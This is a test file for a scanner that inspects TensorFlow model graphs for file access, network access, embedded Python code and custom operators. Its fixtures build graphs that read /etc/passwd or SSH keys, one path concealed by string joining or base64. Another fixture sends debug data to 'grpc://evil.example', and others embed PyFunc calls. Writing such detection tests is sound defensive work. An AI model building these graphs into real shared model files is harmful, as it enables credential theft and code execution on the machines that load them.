"""TensorFlow: what operators, paths and addresses in graphs are found, and that the same graphs without them are proven inert."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.cases import each
from tests.engines.modelfiles.graphs.assembling import (
    alarms,
    constant,
    everything,
    field,
    function,
    graph,
    meta_graph,
    node,
    saved_model,
    scanned,
    text_list,
    text_value,
)
from veritensor_ray.core import bounds
from veritensor_ray.core.segments import Gap
from veritensor_ray.engines.base import Hit
from veritensor_ray.engines.modelfiles.configuration.nodes import MapNode, Node, NodeDocument, Parsed, ScalarNode
from veritensor_ray.engines.modelfiles.graphs.found import operators
from veritensor_ray.engines.modelfiles.graphs.graph_texts import check_graph
from veritensor_ray.engines.modelfiles.graphs.tensorflow_access import access_of
from veritensor_ray.formats.model_files import wire

FILES, NETWORK, CODE, CUSTOM = "graph-file-access", "graph-network-access", "graph-code", "graph-custom-operators"
OUTSIDE = (
    "/etc/passwd",
    "../../secret",
    "file:///etc/passwd",
    "C:\\secret",
    "~/.ssh/id_rsa",
    "s3://bucket/key",
    "\\\\host\\share",
    "a/../../b",
)
X = node("x", "Placeholder", attrs={"dtype": field(6, 1)})
Y = node("y", "MatMul", ["x", "x"], {"transpose_a": field(5, 0)})
READERS = {
    "ReadFile": FILES, "WriteFile": FILES, "MatchingFiles": FILES, "TextLineDataset": FILES, "TFRecordDatasetV2": FILES, "FixedLengthRecordDatasetV2": FILES,
    "SaveV2": FILES, "RestoreV2": FILES, "MergeV2Checkpoints": FILES, "InitializeTableFromTextFileV2": FILES, "CSVDatasetV2": FILES, "SqlDataset": FILES,
    "LMDBDataset": FILES, "SnapshotDatasetV2": FILES, "CacheDatasetV2": FILES, "SaveDataset": FILES, "LoadDataset": FILES, "CreateSummaryFileWriter": FILES,
    "DatasetToTFRecord": FILES, "DataServiceDatasetV4": NETWORK, "RegisterDatasetV2": NETWORK, "RpcClient": NETWORK, "RpcServer": NETWORK,
}  # fmt: skip


@each("operator", READERS)
@each("path", OUTSIDE)
def test_constant_paths(operator: str, path: str) -> None:
    data = saved_model(graph(X, Y, constant("path", path), node("z", operator, ["path"])))
    assert scanned(data, "saved_model.pb") == ("dangerous", {f"{READERS[operator]} high"})


@each("wrap", [lambda body: saved_model(body), lambda body: meta_graph(body), lambda body: body], ids=["saved", "meta", "frozen"])
@each(
    ("nodes", "expected"),
    [
        ([node("p", "PyFunc", ["x"], {"token": text_value("pyfunc_0")})], {f"{CODE} high"}),
        ([node("p", "PyFuncStateless", ["x"])], {f"{CODE} high"}),
        ([node("p", "EagerPyFunc", ["x"])], {f"{CODE} high"}),
        ([node("p", "XlaCustomCall", ["x"])], {f"{CODE} high"}),
        ([node("p", "ReadFile", ["x"])], {f"{FILES} medium"}),
        ([node("p", "WriteFile", ["x", "x"])], {f"{FILES} high"}),
        ([node("p", "PrintV2", ["x"], {"output_stream": text_value("file:///tmp/out")})], {f"{FILES} high"}),
        ([node("p", "DebugIdentityV3", ["x"], {"debug_urls": text_list("grpc://evil.example:1")})], {f"{NETWORK} high"}),
        ([node("p", "DebugNanCount", ["x"], {"debug_urls": text_list("file:///tmp/dump")})], {f"{NETWORK} high"}),
        ([node("p", "DecodeProtoV2", ["x"], {"descriptor_source": text_value("/opt/descriptors.pb")})], {f"{FILES} high"}),
        ([node("p", "FixedUnigramCandidateSampler", ["x"], {"vocab_file": text_value("/etc/passwd")})], {f"{FILES} high"}),
        ([node("p", "ImmutableConst", attrs={"memory_region_name": text_value("/proc/self/environ")})], {f"{FILES} high"}),
        ([node("p", "BigQueryReader")], {f"{NETWORK} medium"}),
        ([node("p", "MyEvilOperator", ["x"])], {f"{CUSTOM} medium"}),
        ([node("p", "Addons>Evil", ["x"])], {f"{CUSTOM} medium"}),
        ([node("p", "CaseFoldUTF8", ["x"]), node("q", "SentencepieceTokenizeOp", ["p"])], {f"{CUSTOM} low"}),
        ([constant("a", "/etc/"), constant("b", "passwd"), node("j", "StringJoin", ["a", "b"]), node("p", "ReadFile", ["j:0"])], {f"{FILES} high"}),
        ([constant("a", "L2V0Yy9wYXNzd2Q"), node("j", "DecodeBase64", ["a"]), node("p", "ReadFile", ["j"])], {f"{FILES} high"}),
        ([constant("a", "x", "/etc/passwd"), node("i", "Identity", ["a"]), node("p", "TFRecordDataset", ["i"])], {f"{FILES} high"}),
    ],
)  # fmt: skip
def test_operators(wrap: Callable[[bytes], bytes], nodes: list[bytes], expected: set[str]) -> None:
    assert scanned(wrap(graph(X, Y, *nodes)), "model.pb")[1] == expected


@pytest.mark.parametrize("path", OUTSIDE)
def test_paths_that_reach_functions(path: str) -> None:
    body = function("load_file", node("read", "ReadFile", ["name"]))
    data = graph(X, constant("c", path), node("f", "PartitionedCall", ["c"]), functions=[body])
    assert scanned(data, "frozen.pb") == ("dangerous", {f"{FILES} high"})
    assert scanned(graph(X, Y, functions=[function("f", constant("c", path), node("r", "WriteFile", ["c", "c"]))]), "frozen.pb")[1] == {
        f"{FILES} high"
    }


@each(
    "data",
    [
        saved_model(graph(X, Y)),
        saved_model(graph(X, constant("c", "/data/train/vocab.txt"), node("t", "InitializeTableFromTextFileV2", ["h", "c"])), [("c:0", "vocab.txt")]),
        saved_model(graph(X, constant("s", "_temp/part"), node("j", "StringJoin", ["x", "s"]), node("v", "SaveV2", ["j", "n"]))),
        saved_model(graph(X, constant("s", "/part"), node("j", "StringJoin", ["x", "s"]), node("v", "SaveV2", ["j", "n"]))),
        saved_model(graph(X, node("p", "PrintV2", ["x"], {"output_stream": text_value("stderr")}))),
        saved_model(graph(X, node("p", "DecodeProtoV2", ["x"], {"descriptor_source": text_value("local://")}))),
        saved_model(graph(X, node("p", "CacheDataset", ["x", "e"]), constant("e", ""))),
        saved_model(graph(X, node("f", "inner_function", ["x"]), functions=[function("inner_function", node("r", "Relu", ["a"]))])),
        meta_graph(graph(X, Y)),
        graph(X, Y),
        graph(X, Y, constant("greeting", "a text with /etc/passwd in it")),
    ],
)  # fmt: skip
def test_benign_twins(data: bytes) -> None:
    assert scanned(data, "saved_model.pb") == ("inert", set())


def test_assets_outside() -> None:
    assert alarms(saved_model(graph(X, Y), [("c:0", "../../../etc/passwd")]), "saved_model.pb") == {FILES}


def test_unusual_bytes_do_not_hide_an_operator() -> None:
    bad = node("p", "PyFunc", ["x"])
    group = b"\xfb\x3e" + field(9, "hidden") + b"\xfc\x3e"  # fields that no parser knows are skipped by all of them
    assert scanned(group + graph(X, bad), "frozen.pb")[1] == {f"{CODE} high"}
    assert scanned(field(99, "unknown") + saved_model(graph(X, bad)), "saved_model.pb")[1] == {f"{CODE} high"}
    assert scanned(graph(X, bad)[:-2] + b"\x0a\xff", "frozen.pb")[1] == {f"{CODE} high", "graph-malformed low"}
    reordered = field(2, graph(bad)) + field(1, field(4, "serve"))
    assert scanned(field(2, reordered) + field(1, 1), "saved_model.pb")[1] == {f"{CODE} high"}


def test_unknown_fields_are_not_inert() -> None:
    assert scanned(graph(X, Y) + field(77, "what is this?"), "frozen.pb")[0] == "unknown"


def test_standard_operators_are_known() -> None:
    assert len(operators("tensorflow")) > 1500
    assert access_of("MatMul") is None
    assert access_of("ReadVariableOp") is None


def pbtxt(*nodes: str) -> bytes:
    return "\n".join(f"node {{ {node} }}" for node in ('name: "x" op: "Placeholder"', *nodes)).encode()


CONST = 'name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "%s" } } }'


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (pbtxt('name: "p" op: "PyFunc" input: "x"'), {CODE}),
        (pbtxt("name: 'p' op: 'EagerPyFunc'"), {CODE}),
        (pbtxt(CONST % "/etc/passwd", 'name: "r" op: "ReadFile" input: "c"'), {FILES}),
        (pbtxt('name: "r" op: "WriteFile"'), {FILES}),
        (pbtxt('name: "r" op: "DebugIdentityV2" attr { key: "debug_urls" value { list { s: "grpc://evil.example:1" } } }'), {NETWORK}),
        (pbtxt('name: "r" op: "MyEvilOperator"'), {CUSTOM}),
        (b"saved_model_schema_version: 1 meta_graphs { graph_def { " + pbtxt('name: "p" op: "PyFunc"') + b" } }", {CODE}),
        (pbtxt('name: "r" op: "Relu" input: "x"', CONST % "a text"), set()),
        (pbtxt('name: "s" op: "SaveV2" input: "x"', CONST % "model"), set()),
    ],
)
def test_the_text_format(data: bytes, expected: set[str]) -> None:
    assert alarms(data, "saved_model.pbtxt") == expected
    assert (scanned(data, "graph.pbtxt")[0] == "inert") is (not expected)
    assert alarms(b"# padding\n" * (1 << 17) + data, "saved_model.pbtxt") == expected


def test_many_nodes_in_the_text_format_hide_none(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "GRAPH_CONSTANTS", 10)
    nodes = [MapNode([(ScalarNode("op"), ScalarNode(name)), (ScalarNode("name"), ScalarNode("n"))]) for name in ["NoOp"] * 11 + ["PyFunc"]]
    document = NodeDocument(Parsed(list[Node](nodes)), "")
    assert [one.rule for one in check_graph(document) if isinstance(one, Hit)] == [f"modelfiles.{CODE}"]


def test_a_text_that_is_too_long_is_no_proof(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wire, "LONGEST", 40)
    hidden = field(1, field(4, field(1, "_tf_keras_layer") + field(3, '{"class_name": "Lambda", "config": {"function": ["4wEA"]}}')))
    made = saved_model(graph(X, Y))[:2] + field(2, field(2, graph(X, Y)) + field(7, hidden))
    gaps = [one.bound for one in everything(made, "saved_model.pb") if isinstance(one, Gap)]
    assert (gaps, scanned(made, "saved_model.pb")[0]) == (["message_text"], "unknown")
